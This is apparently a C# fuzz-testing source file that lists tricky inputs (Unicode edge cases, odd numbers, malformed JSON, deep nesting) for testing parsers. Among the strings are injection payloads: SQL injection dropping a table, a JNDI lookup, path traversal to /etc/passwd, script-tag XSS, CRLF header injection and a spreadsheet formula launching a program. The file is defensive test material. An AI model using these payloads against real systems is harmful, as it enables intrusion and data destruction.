namespace Rouse.Fuzz.Cases;

/// <summary>Words that have broken programs before.</summary>
internal static class NastyText
{
    public static readonly IReadOnlyList<string> Strings =
    [
        "", " ", "\0", "a\0b", "\u0001", "\r\nX-Injected: 1", "\n", "\u202Eabc", "\u200B", "\uFEFF", "\uD800", "\uDFFF", "a\uD800b", "😀", "𝔘𝔫𝔦", "é", "e\u0301", "İstanbul", "ß",
        "null", "true", "NaN", "undefined", "-1", "0", "1e999", "'; DROP TABLE deployments;--", "\" OR \"\"=\"", "%00", "%", "%s%n", "${jndi:ldap://x.invalid/a}", "{{7*7}}",
        "../../etc/passwd", "..%2f..%2f", "/", "\\", ".", "..", "file:///etc/passwd", "http://", "http://[::1", "http://x.invalid:99999/", "https://user:pass@x.invalid/",
        "javascript:alert(1)", "//x.invalid", "https://hooks.invalid/\u0000", "https://①②⑦.⓪.⓪.①/", "a/b", "a/b@", "@main", "a/b@../x", "a//b", "org/tiny@\uFFFF", "<script>alert(1)</script>",
        "=cmd|' /C calc'!A0", "Ω≈ç√∫", "\u2028", "\u0085", "999999999999999999999999", "1970-01-01T00:00:00Z", "9999-12-31T23:59:59.9999999Z", "0001-01-01T00:00:00+14:00",
        "dep_", "dep_00000000000000000000000000", "dep_zzzzzzzzzzzzzzzzzzzzzzzzzzzz", "runpod", "shared", "private", "bearer", "a=b", "whsec_", "v1,",
    ];

    /// <summary>JSON where a value belongs.</summary>
    public static readonly IReadOnlyList<string> Literals =
    [
        "null", "true", "false", "0", "-0", "-0.0", "-1", "1", "0.5", "1.0", "1e2", "1e999", "-1e999", "1e-999", "99999999999999999999", "-99999999999999999999", "2147483648",
        "-2147483649", "9223372036854775808", "4294967295", "9007199254740993", "0.1e1", "\"\"", "\"1\"", "[]", "{}", "[null]", "[[]]", "[1,2]", "{\"a\":1}", "{\"\":null}",
        "\"\\ud800\"", "\"\\u0000\"", "\"\\udfff\\ud800\"", "{\"\\ud800\":1}",
    ];

    /// <summary>What is no JSON at all.</summary>
    public static readonly IReadOnlyList<string> Broken =
    [
        "", " ", "{", "}", "[", "{\"a\"", "{\"a\":", "{\"a\":1", "{\"a\":1,}", "{a:1}", "{'a':1}", "01", "+1", ".5", "1.", "NaN", "Infinity", "nul", "\"\\x\"", "\"\t\"", "{}{}", "{} x", "//\n{}",
        "\uFEFF{}", "\"\\ud8\"", "\u0000", "{\"a\":1\u0000}", "<a/>", "a=b&c=d", "--x\r\nContent-Disposition: form-data\r\n\r\n1\r\n--x--",
    ];

    /// <summary>Texts of all kinds; sometimes long ones.</summary>
    public static string Any(Chance chance) => chance.Below(12) switch
    {
        0 => new string((char)('a' + chance.Below(26)), 1 << chance.Below(14)),
        1 => string.Concat(Enumerable.Range(0, 1 + chance.Below(40)).Select(_ => (char)chance.Below(0x10000))),
        2 => string.Concat(Enumerable.Range(0, 1 + chance.Below(20)).Select(_ => (char)(' ' + chance.Below(95)))),
        3 => chance.Pick(Strings) + chance.Pick(Strings),
        4 => string.Concat(Enumerable.Repeat("😀", 1 + chance.Below(200))),
        _ => chance.Pick(Strings),
    };

    public static string Deep(Chance chance)
    {
        var depth = new[] { 5, 63, 64, 65, 256, 257, 2000 }[chance.Below(7)];
        return chance.OneIn(2)
            ? new string('[', depth) + new string(']', depth)
            : string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth);
    }
}
